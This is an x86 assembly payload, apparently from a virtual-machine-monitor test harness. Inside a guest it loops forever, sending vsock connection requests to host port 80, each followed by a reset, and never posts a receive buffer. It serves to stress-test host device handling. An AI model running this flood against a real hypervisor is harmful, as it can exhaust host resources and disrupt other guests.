# For ever: requests for connections from port 1000 to port 80 of the host, and with each the reset of it, 128 pairs at a time.
# There is never a buffer for what the host has to say. rbx: registers, r14: index of the transmit queue's available ring.

.globl payload_vsock_pairs, payload_vsock_pairs_end
payload_vsock_pairs:
    mov ebx, 0xd0000000
1:  virtio_negotiate 1b
    virtio_queue 0, 256, 0x200000
    virtio_queue 1, 256, 0x208000
    mov dword ptr [rbx + 0x70], 15
    mov edi, 0x240000               # the headers: request and reset
    mov edx, 1
    call 5f
    mov edi, 0x240100
    mov edx, 3
    call 5f
    xor ecx, ecx
2:  mov edi, ecx
    shl edi, 4
    add edi, 0x208000
    virtio_descriptor 0x240000, 44, 0, 0
    test ecx, 1
    jz 3f
    mov dword ptr [rdi], 0x240100
3:  mov [rcx * 2 + 0x20a004], cx
    inc ecx
    cmp ecx, 256
    jb 2b
    xor r14d, r14d
4:  add r14d, 256
    mov [0x20a002], r14w
    mov dword ptr [rbx + 0x50], 1
6:  pause
    cmp [0x20c002], r14w
    jne 6b
    jmp 4b
# The header of a packet without data at edi, of the operation edx.
5:  mov qword ptr [rdi], 3
    mov qword ptr [rdi + 8], 2
    mov dword ptr [rdi + 16], 1000
    mov dword ptr [rdi + 20], 80
    mov word ptr [rdi + 28], 1
    mov [rdi + 30], dx
    ret
payload_vsock_pairs_end:
